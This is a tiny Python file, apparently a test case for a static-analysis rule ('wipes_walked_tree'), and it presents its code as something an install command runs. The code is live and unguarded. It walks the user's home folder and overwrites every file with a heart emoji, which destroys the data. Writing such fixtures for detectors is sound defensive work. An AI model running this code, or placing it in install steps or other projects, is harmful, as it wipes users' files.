# Every file of the home folder overwritten with a heart, from an install command.
import os
def _touch_all(root):
    mark = "\u2764\ufe0f".encode("utf-8")
    for dirpath, dirnames, filenames in os.walk(root):
        for fn in filenames:
            with open(os.path.join(dirpath, fn), "wb") as fh:
                # ruleid: wipes_walked_tree
                fh.write(mark)
_touch_all(os.path.expanduser("~"))
